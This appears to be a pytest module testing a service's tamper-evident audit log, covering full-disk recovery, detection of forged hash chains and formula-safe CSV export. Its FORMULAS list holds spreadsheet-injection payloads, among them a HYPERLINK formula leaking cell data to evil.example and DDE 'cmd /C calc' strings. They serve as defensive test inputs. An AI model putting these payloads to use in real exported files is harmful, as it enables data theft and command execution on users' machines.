"""The audit log under a full disk and against a forger (issue 21, findings 2, 9 and the CSV part
of 10), against real `convirt serve` processes, the real `convirt audit` command and real small
filesystems (256 KiB tmpfs, mounted here: this needs root, or the tests that need them skip saying
so, unless CONVIRT_REQUIRE_TOOLS=1).

- A full disk: a line the full disk cut short (a real short write of the service's AuditLog, in
  this process); a server started while the disk is still full no longer exits 2, answers 503
  audit_unavailable, seals the torn line once space is freed without a restart, and `convirt
  audit verify` calls it a recovered torn write, not tampering. A disk under
  CONVIRT_AUDIT_MIN_FREE_MB is refused before it fills.
- Forgeries by someone who can write the log's disk but not the key file or the anchor (kept
  elsewhere): the last line deleted and LOG.head rewritten, the log and head emptied, a line
  removed and the plain SHA-256 chain recomputed. Each is found.
- `convirt audit --csv` never writes a cell a spreadsheet would run as a formula.
- A large answer's audit line stays small.

Two servers, started side by side at the module's start (a server's start is seconds of imports):
one requiring keys whose log is on a small disk with a reserve, shared by every test but the full
disk's, and the one started on the full disk.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import shutil
import subprocess
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import redirect_stderr, redirect_stdout, suppress
from pathlib import Path

import httpx
import pytest
from conftest import error_of, index_of_rows, server_settings
from serving import ServerProcess, finish

from convirt import cli
from convirt.bundle import load_bundle
from service.guard.audit import AuditError, AuditLog, AuditRecord

FIELDS = ["image", "text", "modality", "case_id", "StudyInstanceUID"]
UID_ROOT = "1.2.826.0.1.3680043.8.498"
QUERY = "Axial CT image of the chest showing a mass in the lung."
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tpadded formula",
]
RESERVE_MB = 0.1  # the guarded server's reserve: about 100 KiB of its 256 KiB disk


# -- fixtures --------------------------------------------------------------------------------------


def convirt(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    """The real `convirt` command (convirt.cli.main), run in this process with `env` added to
    the environment: `convirt audit` and `convirt keys` import no model, so a process of their
    own would only add its start. Exit status, standard output and error as a subprocess's."""
    out, err = io.StringIO(), io.StringIO()
    saved = {name: os.environ.get(name) for name in env or {}}
    root = logging.getLogger()
    level, handlers = root.level, list(root.handlers)  # cli.main may call logging.basicConfig
    try:
        os.environ.update(env or {})
        with redirect_stdout(out), redirect_stderr(err):
            try:
                code = cli.main(list(args))
            except SystemExit as exit:  # argparse: an unknown action or option
                code = exit.code if isinstance(exit.code, int) else 1
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
        root.setLevel(level)
        root.handlers[:] = handlers
    return subprocess.CompletedProcess(list(args), code, out.getvalue(), err.getvalue())


def mount_small_disk(mount: Path) -> str | None:
    """A real 256 KiB tmpfs at `mount`; None when mounted, else why not."""
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
        capture_output=True,
        text=True,
    )
    if done.returncode == 0:
        return None
    return f"cannot mount a small tmpfs (needs root): {done.stderr.strip()}"


def need_disk(reason: str | None) -> None:
    if reason is None:
        return
    if os.environ.get("CONVIRT_REQUIRE_TOOLS") == "1":
        pytest.fail(reason + " (CONVIRT_REQUIRE_TOOLS=1)")
    pytest.skip(reason)


@pytest.fixture(scope="module")
def index_root(tmp_path_factory, bundle_dir, datasets) -> Path:
    with open(datasets / "medpix" / "manifest.csv", newline="", encoding="utf-8") as f:
        medpix = [r for r in csv.DictReader(f) if r["split"] == "train"][:12]
    rows = [
        {
            "image": str(datasets / "medpix" / r["image"]),
            "text": r["text"],
            "modality": r["modality"],
            "case_id": r["case_id"],
            "StudyInstanceUID": f"{UID_ROOT}.{n // 3 + 1}",  # three images a study
        }
        for n, r in enumerate(medpix)
    ]
    folder = tmp_path_factory.mktemp("audit-index")
    return index_of_rows(folder, load_bundle(bundle_dir), rows, FIELDS)


@pytest.fixture(scope="module")
def disks(tmp_path_factory) -> Iterator[dict[str, tuple[Path, str | None]]]:
    """Two small disks: `guarded` (the keyed server's log) and `full` (filled before its server
    starts). Each (folder, why it is not a tmpfs or None); unmounted at the module's end."""
    folder = tmp_path_factory.mktemp("disks")
    found = {name: (folder / name, mount_small_disk(folder / name)) for name in ("guarded", "full")}
    try:
        yield found
    finally:
        for mount, reason in found.values():
            if reason is None:
                subprocess.run(["umount", "-l", str(mount)], check=False)


@pytest.fixture(scope="module")
def vault(tmp_path_factory) -> Path:
    """Where the chain key and the anchor live: not the log's disk."""
    return tmp_path_factory.mktemp("vault")


def fill(disk: Path) -> Path:
    """Fill the disk to the last byte with a file; deleting it frees the space."""
    filler = disk / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT)
    try:
        while os.write(fd, b"\0" * 4096):
            pass
    except OSError:
        pass  # no space left
    finally:
        os.close(fd)
    return filler


def search_record(text: str) -> AuditRecord:
    """What the service records of a k=12 text search (AuditLog.write's input)."""
    record = AuditRecord("anonymous", None, None, "127.0.0.1", "POST", "/v1/search/text")
    record.query, record.results = text, [str(10**15 + n) for n in range(12)]
    return record


def tear_on_full_disk(disk: Path) -> tuple[Path, Path]:
    """The service's own AuditLog (in this process) writing a log on `disk`, the disk filled
    until one line is cut short, as a request's line was in finding 2: (log, filler)."""
    log = disk / "audit.jsonl"
    writer = AuditLog(log, "text")
    writer.write(search_record(QUERY))
    filler = fill(disk)
    for n in range(40):  # until a line is cut short (~10 lines fill the last page)
        with suppress(AuditError, OSError):  # refused: its request would get a 503
            writer.write(search_record(f"full disk {n}"))
        if not log.read_bytes().endswith(b"\n"):
            break
    assert not log.read_bytes().endswith(b"\n"), "no short write: the disk never filled"
    return log, filler


def start(pool: ThreadPoolExecutor, settings: dict) -> tuple[ServerProcess, Future]:
    """A `convirt serve` starting in `pool` (its start waits for /readyz)."""
    process = ServerProcess(settings)
    return process, pool.submit(process.start)


@pytest.fixture(scope="module")
def servers(bundle_dir, index_root, vault, disks, tmp_path_factory) -> Iterator[dict]:
    """Both servers, started at once: `guarded` requires keys, its log keeps query texts on a
    small disk with a reserve, key and anchor elsewhere; `full` is started on a full disk whose
    log ends with a torn line (no server yet: only when there is a small disk)."""
    state = tmp_path_factory.mktemp("audit-state")
    db = state / "keys.sqlite"
    added = convirt("keys", "add", "--db", str(db), "--name", FORMULAS[0], "--role", "admin")
    assert added.returncode == 0, added.stderr
    guarded_disk, _ = disks["guarded"]
    guarded = server_settings(
        bundle_dir,
        index_root,
        CONVIRT_AUTH_DB=db,
        CONVIRT_AUDIT_LOG=guarded_disk / "audit.jsonl",
        CONVIRT_AUDIT_QUERIES="text",
        CONVIRT_AUDIT_KEY_FILE=vault / "audit.key",
        CONVIRT_AUDIT_ANCHOR=vault / "audit.anchor",
        CONVIRT_AUDIT_MIN_FREE_MB=str(RESERVE_MB),
    )
    found: dict = {"key": added.stdout.strip(), "log": guarded_disk / "audit.jsonl"}
    with ThreadPoolExecutor(2) as pool:
        found["guarded"] = start(pool, guarded)
        full_disk, no_tmpfs = disks["full"]
        log = filler = None
        if no_tmpfs is None:
            try:
                log, filler = tear_on_full_disk(full_disk)
            except AssertionError as err:  # the full disk's test fails with it, not every test
                found["torn"] = err
        if log is not None:
            full_vault = tmp_path_factory.mktemp("full-vault")
            settings = server_settings(
                bundle_dir,
                index_root,
                CONVIRT_AUDIT_LOG=log,  # its key: LOG.key, made by the writer above
                CONVIRT_AUDIT_ANCHOR=full_vault / "audit.anchor",
                CONVIRT_AUDIT_MIN_FREE_MB="0",
            )
            found.update(full=start(pool, settings), full_log=log, filler=filler)
            found["full_env"] = {"CONVIRT_AUDIT_ANCHOR": str(full_vault / "audit.anchor")}
        try:
            yield found
        finally:
            for name in ("guarded", "full"):
                if name in found:
                    finish(*found[name])


@pytest.fixture(scope="module")
def guarded(servers) -> Iterator[tuple[httpx.Client, Path]]:
    """The server requiring keys, as (a client sending an admin key, its audit log)."""
    process, started = servers["guarded"]
    started.result()
    with httpx.Client(base_url=process.url, timeout=60) as client:
        client.headers["X-API-Key"] = servers["key"]
        yield client, servers["log"]


def keyed_env(vault: Path) -> dict[str, str]:
    """How `convirt audit` finds the key and the anchor (environment: older versions ignore it)."""
    return {
        "CONVIRT_AUDIT_KEY_FILE": str(vault / "audit.key"),
        "CONVIRT_AUDIT_ANCHOR": str(vault / "audit.anchor"),
    }


def search(client: httpx.Client, text: str = QUERY, **controls) -> httpx.Response:
    return client.post("/v1/search/text", json={"text": text, **controls})


# -- finding 9: forgeries --------------------------------------------------------------------------


def copy_log(log: Path, folder: Path) -> Path:
    """The log's disk as a forger finds it: the log, its head and its salt (not key, not anchor)."""
    folder.mkdir()
    for suffix in ("", ".head", ".salt"):
        shutil.copy(log.with_name(log.name + suffix), folder / (log.name + suffix))
    return folder / log.name


def plain_rechain(lines: list[bytes]) -> tuple[list[bytes], dict]:
    """Renumber and relink `lines` with a plain SHA-256 chain, as the forger of finding 9 did."""
    prev, out, entry = "0" * 64, [], {}
    for seq, raw in enumerate(lines, 1):
        entry = json.loads(raw)
        entry.pop("hash")
        entry.update(seq=seq, prev=prev)
        body = json.dumps(entry, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        entry["hash"] = prev = hashlib.sha256(body.encode()).hexdigest()
        out.append(json.dumps(entry, sort_keys=True, separators=(",", ":")).encode() + b"\n")
    return out, {"seq": entry.get("seq", 0), "hash": prev}


def test_forged_audit_chain_is_detected(guarded, vault, tmp_path):
    client, log = guarded
    for n in range(4):
        assert search(client, f"forgery probe {n}", k=2).status_code == 200
    env = keyed_env(vault)
    anchor_copy = tmp_path / "audit.anchor"
    if (vault / "audit.anchor").exists():  # taken with the log: the same moment
        shutil.copy(vault / "audit.anchor", anchor_copy)
    env["CONVIRT_AUDIT_ANCHOR"] = str(anchor_copy)
    intact = copy_log(log, tmp_path / "intact")
    done = convirt("audit", "verify", "--log", str(intact), env=env)
    assert done.returncode == 0, done.stderr
    lines = intact.read_bytes().splitlines(keepends=True)
    assert len(lines) >= 4

    # 1. the last line deleted, LOG.head rewritten to name the new last line
    cut = copy_log(log, tmp_path / "cut")
    cut.write_bytes(b"".join(lines[:-1]))
    last = json.loads(lines[-2])
    Path(f"{cut}.head").write_text(json.dumps({"seq": last["seq"], "hash": last["hash"]}))
    found = convirt("audit", "verify", "--log", str(cut), env=env)
    assert found.returncode == 1, found.stdout + found.stderr
    assert "head" in found.stderr or "anchor" in found.stderr

    # 2. the log and its head emptied: "0 entries" is not an intact log when the anchor says more
    emptied = copy_log(log, tmp_path / "emptied")
    emptied.write_bytes(b"")
    Path(f"{emptied}.head").unlink()
    found = convirt("audit", "verify", "--log", str(emptied), env=env)
    assert found.returncode == 1, found.stdout + found.stderr
    assert "emptied" in found.stderr and "anchor" in found.stderr

    # 3. one line removed, the plain SHA-256 chain and the head recomputed
    rechained = copy_log(log, tmp_path / "rechained")
    forged, head = plain_rechain(lines[:1] + lines[2:])
    rechained.write_bytes(b"".join(forged))
    Path(f"{rechained}.head").write_text(json.dumps(head))
    found = convirt("audit", "verify", "--log", str(rechained), env=env)
    assert found.returncode == 1, found.stdout + found.stderr
    assert "line 1:" in found.stderr and "keyed hash" in found.stderr

    # without the anchor the keyed chain and head still catch 1 and 3; 2 is only noted
    env.pop("CONVIRT_AUDIT_ANCHOR")
    for forgery in (cut, rechained):
        assert convirt("audit", "verify", "--log", str(forgery), env=env).returncode == 1
    noted = convirt("audit", "verify", "--log", str(emptied), env=env)
    assert "no anchor" in noted.stderr


def test_audit_rotation_carries_the_chain_over(guarded, vault):
    client, log = guarded
    assert search(client, "before rotation", k=2).status_code == 200
    env = keyed_env(vault)
    rotated = convirt("audit", "rotate", "--log", str(log), env=env)
    assert rotated.returncode == 0, rotated.stderr
    old = sorted(log.parent.glob("audit.jsonl.0*"))[-1]
    assert search(client, "after rotation", k=2).status_code == 200  # the server follows
    first, second = (json.loads(line) for line in log.read_text().splitlines()[:2])
    old_last = json.loads(old.read_text().splitlines()[-1])
    assert (first["event"], first["previous"], first["prev"]) == (
        "rotated",
        old.name,
        old_last["hash"],
    )
    assert second["query_text"] == "after rotation" and second["seq"] == first["seq"] + 1
    done = convirt("audit", "verify", "--log", str(log), env=env)
    assert done.returncode == 0 and "in 2 files" in done.stdout, done.stdout + done.stderr
    listed = convirt("audit", "--log", str(log), env=env).stdout
    assert "'before rotation'" in listed and "'after rotation'" in listed  # both files read


# -- finding 10: CSV export ------------------------------------------------------------------------


def test_audit_csv_neutralises_formulas(guarded):
    client, log = guarded
    for text in FORMULAS:
        assert search(client, text, k=2).status_code == 200, text
    exported = convirt("audit", "--log", str(log), "--csv")
    assert exported.returncode == 0, exported.stderr
    table = list(csv.DictReader(io.StringIO(exported.stdout)))
    rows = [row for row in table if row["query_text"].lstrip("'") in FORMULAS]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["query_text"][0] == "'" and row["name"] == "'" + FORMULAS[0]
    assert {row["query_text"][1:] for row in rows} == set(FORMULAS)  # nothing else changed


# -- finding 2: line size, full disk -------------------------------------------------------------


def worst_answer() -> list[str]:
    """The ids of a k=100 group_by=study answer: 100 cards, each with 8 more images."""
    return [str(2**62 + 7_919 * 104_729 * n) for n in range(100 * 9)]


def test_large_answer_audit_line_is_bounded(tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl")
    record = AuditRecord(
        "key:0123456789abcdef", "reading room", "reader", "10.0.0.7", "POST", "/v1/search/text"
    )
    record.query, record.results = QUERY, worst_answer()
    log.write(record)
    line = (tmp_path / "audit.jsonl").read_bytes()
    unbounded = len(json.dumps(record.results))
    assert unbounded > 17_000  # what the ids alone took as a list
    assert len(line) < 2_000, len(line)
    kept = worst_answer()[99]
    found = convirt("audit", "--log", str(log.path), "--image", kept, "--csv")
    (row,) = list(csv.DictReader(io.StringIO(found.stdout)))
    assert row["results_count"] == "900" and len(row["results"].split()) == 100
    assert row["results_sha256"] == hashlib.sha256("\n".join(worst_answer()).encode()).hexdigest()
    assert convirt("audit", "verify", "--log", str(log.path)).returncode == 0


def test_full_audit_disk_recovers_after_space_is_freed(servers, disks):
    """Before: the torn line made every audited request a 503 after space was freed, and a
    restart exit 2 (the server here is that restart, started while the disk was full)."""
    need_disk(disks["full"][1])
    if "torn" in servers:
        raise servers["torn"]
    process, started = servers["full"]
    started.result()  # started while the disk is still full
    log, filler = servers["full_log"], servers["filler"]
    with httpx.Client(base_url=process.url, timeout=60) as client:
        error = error_of(search(client), 503, "audit_unavailable")
        assert "nearly full" in error["message"]
        assert not log.read_bytes().endswith(b"\n")  # the seal of a full disk was undone
        filler.unlink()
        assert search(client).status_code == 200  # no restart needed
        assert search(client, k=12, group_by="none").status_code == 200
        metrics = client.get("/metrics").text
    assert 'convirt_audit_refused_total{reason="disk_full"}' in metrics
    assert "convirt_audit_torn_writes_sealed_total 1.0" in metrics
    verdict = convirt("audit", "verify", "--log", str(log), env=servers["full_env"])
    assert verdict.returncode == 0, verdict.stderr
    assert "recovered torn write" in verdict.stderr and "tamper" not in verdict.stderr


def test_audit_disk_nearing_full_is_refused_early(guarded, servers, disks):
    need_disk(disks["guarded"][1])
    client, log = guarded
    process, _ = servers["guarded"]
    assert search(client).status_code == 200
    disk = log.parent
    stats = os.statvfs(disk)
    ballast = disk / "ballast"
    # under the reserve, far from full: half the reserve left free
    ballast.write_bytes(b"\0" * (stats.f_bavail * stats.f_frsize - int(RESERVE_MB * 2**20 / 2)))
    try:
        size = log.stat().st_size
        error = error_of(search(client), 503, "audit_unavailable")
        assert "nearly full" in error["message"] and "operator" in error["message"]
        assert log.stat().st_size == size and log.read_bytes().endswith(b"\n")  # nothing torn
        metrics = client.get("/metrics").text
        assert 'convirt_audit_refused_total{reason="disk_reserve"} 1.0' in metrics
        free = next(
            x for x in metrics.splitlines() if x.startswith("convirt_audit_disk_free_bytes")
        )
        assert float(free.split()[-1]) < RESERVE_MB * 2**20
        assert "under the reserve" in process.output()  # the operator's log says why
    finally:
        ballast.unlink()
    assert search(client).status_code == 200
